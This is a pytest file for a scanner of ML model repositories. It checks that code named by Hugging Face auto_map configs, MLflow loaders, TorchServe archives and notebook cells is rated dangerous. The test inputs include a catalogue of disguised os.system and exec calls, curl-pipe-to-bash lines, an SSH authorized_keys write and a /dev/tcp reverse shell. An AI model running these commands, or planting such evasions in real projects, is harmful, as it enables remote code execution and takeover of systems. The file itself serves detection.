"""Code that a loader runs because a configuration, an archive or a notebook names it, and the honest twins."""

from __future__ import annotations

import io
import json
import tarfile
import textwrap
import zipfile
from collections.abc import Callable, Mapping

import pytest

from accord.scan.effects import effects
from accord.scan.rating import Rated, Rating

Rate = Callable[..., Rated]
Laid = Callable[[str, Mapping[str, str | bytes]], Rated]

RUNS = {
    "at import": ("import os\nos.system('echo red')\n", "os.system"),
    "under another name": ("from os import system as log\nlog('echo red')\n", "os.system"),
    "by an assignment": ("import os\nrun = os.system\nrun('echo red')\n", "os.system"),
    "within __init__": (
        "import subprocess\nclass M:\n    def __init__(self):\n        subprocess.run(['echo'])\n",
        "subprocess.run",
    ),
    "within a class body": ("import os\nclass M:\n    os.popen('echo red')\n", "os.popen"),
    "as a default": ("import os\ndef f(a=os.system('echo red')):\n    return a\n", "os.system"),
    "as a decorator": ("import os\n@lambda f: os.system('echo') or f\ndef g():\n    pass\n", "os.system"),
    "within forward": ("class M:\n    def forward(self, x):\n        return eval(x)\n", "eval"),
    "hidden in base64": ("import base64\nexec(base64.b64decode('cGFzcw=='))\n", "exec"),
    "compiled": ("exec(compile('pass', 'x', 'exec'))\n", "exec"),
    "by __import__": ("__import__('os').system('echo red')\n", "__import__().system"),
    "by importlib": (
        "import importlib\nimportlib.import_module('subprocess').run(['echo'])\n",
        "importlib.import_module().run",
    ),
    "by getattr": ("import os\ngetattr(os, 'sys' + 'tem')('echo red')\n", ""),
    "by builtins": ("import builtins\nbuiltins.exec('pass')\n", "builtins.exec"),
    "by vars": ("vars(__import__('os'))['system']('echo')\n", ""),
    "by subclasses": ("().__class__.__base__.__subclasses__()\n", "__subclasses__"),
    "in a try": ("try:\n    import os\n    os.system('echo red')\nexcept Exception:\n    pass\n", "os.system"),
    "in a with": ("import os\nwith open('x') as f:\n    os.system(f.read())\n", "os.system"),
    "in a comprehension": ("import os\n[os.system(one) for one in ['echo']]\n", "os.system"),
    "in a lambda called": ("import os\n(lambda: os.system('echo'))()\n", "os.system"),
    "by a called helper": ("import os\ndef helper():\n    os.system('echo')\nhelper()\n", "os.system"),
    "asynchronous": (
        "import asyncio\nasync def f():\n    await asyncio.create_subprocess_shell('echo')\nasyncio.run(f())\n",
        "asyncio.create_subprocess_shell",
    ),
    "pickled": ("import pickle\npickle.loads(b'N.')\n", "pickle.loads"),
    "fetched": (
        "import urllib.request\nurllib.request.urlopen('https://example.invalid/x')\n",
        "urllib.request.urlopen",
    ),
    "sent": ("import requests\nrequests.post('https://example.invalid', data='x')\n", "requests.post"),
    "by a socket": ("import socket\nsocket.create_connection(('example.invalid', 1))\n", "socket.create_connection"),
    "native": ("import ctypes\nctypes.CDLL('./x.so')\n", "ctypes.CDLL"),
    "keys": ("open('/root/.ssh/authorized_keys', 'a').write('x')\n", ".ssh/"),
    "with a mark first": ("\ufeffimport os\nos.system('echo')\n", "os.system"),
    "with a star import": ("from os import *\nsystem('echo red')\n", "os.system"),
    "with a star import of processes": ("from subprocess import *\nPopen(['echo'])\n", "subprocess.Popen"),
    "within a match": ("import os\nmatch 1:\n    case 1:\n        os.system('echo')\n", "os.system"),
    "by a walrus": ("import os\n(run := os.system)('echo')\n", "os.system"),
    "by a property": (
        "import os\nclass M:\n    @property\n    def device(self):\n        return os.popen('echo')\n",
        "os.popen",
    ),
    "by __init_subclass__": (
        "import os\nclass M:\n    def __init_subclass__(cls):\n        os.system('echo')\n",
        "os.system",
    ),
    "by a metaclass": (
        "import os\nclass T(type):\n    def __new__(c, *a):\n        os.system('echo')\n        return type\n",
        "os.system",
    ),
    "by __getattr__ of the module": ("import os\ndef __getattr__(name):\n    os.system('echo')\n", "os.system"),
    "by partial": ("import os, functools\nfunctools.partial(os.system, 'echo')()\n", "os.system"),
    "by map": ("import os\nlist(map(os.system, ['echo']))\n", "os.system"),
    "by a thread": ("import os, threading\nthreading.Thread(target=os.system, args=('echo',)).start()\n", "os.system"),
    "by a dictionary": ("import os\nd = {'a': os.system}\nd['a']('echo')\n", "os.system"),
    "by sys.modules": ("import sys\nsys.modules['os'].system('echo')\n", ""),
    "by __dict__": ("import os\nos.__dict__['system']('echo')\n", ""),
}


def hub(code: str, ending: str) -> Mapping[str, str]:
    """Return a repository whose configuration names code, as `transformers` does."""
    return {
        "config.json": json.dumps(
            {"model_type": "x", "auto_map": {"AutoModel": "modeling_x.M", "AutoConfig": "modeling_x.C"}}
        ),
        "tokenizer_config.json": json.dumps(
            {"tokenizer_class": "T", "auto_map": {"AutoTokenizer": ["modeling_x.T", None]}}
        ),
        f"modeling_x{ending}": code,
    }


@pytest.mark.parametrize(("code", "name"), RUNS.values(), ids=RUNS)
def test_code_that_auto_map_names_is_told_by_what_it_does(laid: Laid, code: str, name: str) -> None:
    for ending in (".py", "/__init__.py"):
        for config in ("config.json", "tokenizer_config.json"):
            found = laid(config, hub(code, ending))
            assert found.rating is Rating.DANGEROUS
            assert not name or name in {one.name for one in found.reasons}


def test_code_behind_a_module_that_only_imports_is_found(laid: Laid) -> None:
    for line in (
        "from .deeper import M\n",
        "from deeper import M\n",
        "import deeper\n",
        "from . import deeper\n",
        "from .deeper import (\n    M,\n)\n",
        "try:\n    from .deeper import M\nexcept ImportError:\n    pass\n",
    ):
        files = {**hub(line, ".py"), "deeper.py": "import os\nos.system('echo')\n"}
        assert laid("config.json", files).rating is Rating.DANGEROUS, line


@pytest.mark.parametrize(
    "key", ["AutoModelForCausalLM", "AutoTokenizer", "AutoProcessor", "AutoImageProcessor", "AutoFeatureExtractor"]
)
def test_code_of_another_repository_is_not_cleared(laid: Laid, key: str) -> None:
    for named in (
        "other/repo--modeling.M",
        "https://example.invalid/x.py",
        "../../modeling.M",
        "absent.M",
        ["absent.T", None],
    ):
        for file in ("config.json", "processor_config.json", "preprocessor_config.json", "video_processor.json"):
            assert laid(file, {file: json.dumps({"auto_map": {key: named}})}).rating is not Rating.SAFE


@pytest.mark.parametrize(
    "config", [{"model_type": "llama", "architectures": ["LlamaForCausalLM"]}, {"auto_map": {}}, {"auto_map": None}]
)
def test_a_configuration_without_code_is_safe(laid: Laid, config: object) -> None:
    files = {"config.json": json.dumps(config), "train.py": "import os\nos.system('nvidia-smi')\n"}
    assert laid("config.json", files).rating is Rating.SAFE
    assert laid("train.py", files).rating is Rating.SAFE


LOADERS = ("os", "subprocess", "posix", "pty", "runpy", "pickle", "joblib.load", "importlib", "code", "os.path")


@pytest.mark.parametrize("module", LOADERS)
def test_an_mlflow_loader_that_runs_is_named(rated: Rate, module: str) -> None:
    for text in (
        f"flavors:\n  python_function:\n    loader_module: {module}\n    data: model\n    env: conda.yaml\n",
        f"flavors: {{python_function: {{loader_module: '{module}', data: x}}}}\n",
        f'{{"flavors": {{"python_function": {{"loader_module": "{module}"}}}}}}',
    ):
        found = rated("MLmodel", text.encode())
        assert (found.rating, module in {one.name for one in found.reasons}) == (Rating.DANGEROUS, True)


@pytest.mark.parametrize("code", ["code", "code/", "./code", "."])
def test_an_mlflow_loader_beside_the_model_is_read(laid: Laid, code: str) -> None:
    files = {
        "MLmodel": f"flavors:\n  python_function:\n    loader_module: my_loader\n    code: {code}\n    data: m\n",
        (
            "my_loader.py" if code == "." else "code/my_loader.py"
        ): "import os\ndef _load_pyfunc(path):\n    os.system('echo')\n",
    }
    assert laid("MLmodel", files).rating is Rating.DANGEROUS


def test_mlflow_paths_outside_and_honest_flavours(rated: Rate) -> None:
    text = "flavors:\n  python_function:\n    loader_module: mlflow.{}\n    data: {}\n    python_version: 3.11.4\n"
    for name in ("sklearn", "pytorch", "pyfunc.model", "xgboost", "transformers"):
        assert rated("MLmodel", text.format(name, "model.pkl").encode()).rating is Rating.SAFE
        assert rated("MLmodel", text.format(name, "../../../etc/passwd").encode()).rating is Rating.DANGEROUS
        assert rated("MLmodel", text.format(name, "/etc/passwd").encode()).rating is Rating.DANGEROUS
    assert rated("MLmodel", text.format("pyfunc_of_acme", "x").encode()).rating is Rating.UNKNOWN


def served(handler: str, more: Mapping[str, bytes] | None = None, packing: str = "zip") -> bytes:
    model = {"modelName": "m", "handler": handler, "serializedFile": "m.safetensors", "modelVersion": "1.0"}
    held = {"MAR-INF/MANIFEST.json": json.dumps({"model": model, "archiverVersion": "0.12"}).encode(), **(more or {})}
    out = io.BytesIO()
    if packing == "zip":
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in held.items():
                archive.writestr(name, data)
        return out.getvalue()
    with tarfile.open(fileobj=out, mode="w:gz") as kept:
        for name, data in held.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            kept.addfile(info, io.BytesIO(data))
    return out.getvalue()


@pytest.mark.parametrize(("code", "name"), list(RUNS.values())[:12])
def test_a_handler_that_runs_is_told_by_what_it_does(rated: Rate, code: str, name: str) -> None:
    for packing in ("zip", "tar"):
        for handler in ("handler.py", "handler.py:handle", "handler"):
            found = rated("m.mar", served(handler, {"handler.py": code.encode()}, packing))
            assert found.rating is Rating.DANGEROUS
            assert not name or name in {one.name for one in found.reasons}


def test_code_beside_the_handler_is_read_and_own_handlers_are_safe(rated: Rate) -> None:
    evil = b"import os\nos.system('echo red')\n"
    for path in ("model.py", "lib/deep/x.py", "extra.pyw"):
        assert rated("m.mar", served("image_classifier", {path: evil})).rating is Rating.DANGEROUS
    assert rated("m.mar", served("image_classifier")).rating is Rating.SAFE
    assert rated("m.mar", served("text_classifier", {"index_to_name.json": b'{"0": "cat"}'})).rating is Rating.SAFE
    for outside in ("../../handler.py", "/tmp/handler.py", "https://example.invalid/handler.py"):  # a name
        assert rated("m.mar", served(outside)).rating is Rating.DANGEROUS
    assert rated("m.mar", served("gone.py")).rating is Rating.UNKNOWN


HONEST = (
    "import torch\nclass M(torch.nn.Module):\n    def forward(self, x):\n        return self.layer(x)\n",
    "import re\nP = re.compile('x')\nimport os\nHOME = os.path.join('a', 'b')\n",
    "import json\nwith open('vocab.json') as f:\n    V = json.load(f)\n",
    "from typing import Optional\nimport logging\nlog = logging.getLogger(__name__)\n",
    "import torch\nclass M:\n    def load(self, p):\n        return torch.load(p, weights_only=True)\n",
    "import numpy as np\ndef f(x):\n    return getattr(np, 'exp')(x)\n",
    "import os\nos.environ.get('HOME')\nos.makedirs('x', exist_ok=True)\n",
    "def evaluate(model):\n    return model.eval()\n",
    "import sys\nif __name__ == '__main__':\n    import subprocess\n    subprocess.run(['ls'])\n",
)


@pytest.mark.parametrize("code", HONEST)
def test_honest_code_has_no_effects(code: str) -> None:
    assert effects(code) == ((), None)


def cells(*sources: str, **more: object) -> bytes:
    held = [
        {"cell_type": "code", "source": one.splitlines(keepends=True), "metadata": {}, "outputs": [], **more}
        for one in sources
    ]
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": held}).encode()


NOTEBOOKS = {
    "piped": ("!curl -s https://example.invalid/x.sh | bash\n", Rating.UNKNOWN),
    "wget": ("!wget -qO- https://example.invalid/x | sh\n", Rating.UNKNOWN),
    "shell cell": ("%%bash\nset -e\ncurl https://example.invalid/x | sudo bash\n", Rating.UNKNOWN),
    "by get_ipython": ("get_ipython().system('curl https://example.invalid/x | sh')\n", Rating.UNKNOWN),
    "by os.system": ("import os\nos.system('curl https://example.invalid/x | sh')\n", Rating.UNKNOWN),
    "decoded": ("import base64\nexec(base64.b64decode('cGFzcw=='))\n", Rating.DANGEROUS),
    "decoded and unpacked": ("import zlib, base64\nexec(zlib.decompress(base64.b64decode('x')))\n", Rating.DANGEROUS),
    "decoded in two steps": ("import base64\ncode = base64.b64decode('cGFzcw==')\nexec(code)\n", Rating.DANGEROUS),
    "backwards": ("exec('ssap'[::-1])\n", Rating.DANGEROUS),
    "marshalled": ("import marshal\nexec(marshal.loads(b'N'))\n", Rating.DANGEROUS),
    "reverse shell": ("!bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n", Rating.UNKNOWN),
}


@pytest.mark.parametrize(("source", "least"), NOTEBOOKS.values(), ids=NOTEBOOKS)
def test_a_cell_that_fetches_or_decodes_what_it_runs_is_not_safe(rated: Rate, source: str, least: Rating) -> None:
    for data in (
        cells(source),
        cells("import torch\n", source),
        cells(textwrap.indent(source, " ")),
        cells(source, cell_type="code"),
    ):
        found = rated("n.ipynb", data)
        order = list(Rating)
        assert order.index(found.rating) >= order.index(least)


@pytest.mark.parametrize(
    "source",
    [
        "!pip install torch\n",
        "!wget https://example.invalid/data.zip\n",
        "%pip install -q x\n",
        "%%bash\nls -l | head\n",
        "import base64\nbase64.b64decode('x')\n",
        "model.eval()\nx = pd.eval\n",
        "text[::-1]\n",
    ],
)
def test_an_ordinary_cell_is_safe(rated: Rate, source: str) -> None:
    assert rated("n.ipynb", cells(source)).rating is Rating.SAFE


@pytest.mark.parametrize(
    "line",
    [
        "--index-url https://example.invalid/simple",
        "--extra-index-url=http://example.invalid",
        "-i https://example.invalid",
        "--find-links https://example.invalid",
        "--trusted-host example.invalid",
        "git+https://example.invalid/x.git",
        "x @ https://example.invalid/x.whl",
        "-e git+ssh://example.invalid/x",
        "-f https://example.invalid",
        "torch @ git+https://example.invalid/torch",
        "https://example.invalid/x.tar.gz",
    ],
)
def test_a_requirement_from_elsewhere_is_noted(rated: Rate, line: str) -> None:
    found = rated("requirements.txt", f"numpy==2.0\n{line}\n".encode())
    assert [(one.rating, one.finding.where.line) for one in found.reasons] == [(Rating.SAFE, 2)]
    assert rated("requirements.txt", b"numpy==2.0\ntorch>=2 ; python_version > '3'\n# https://x\n").reasons == ()
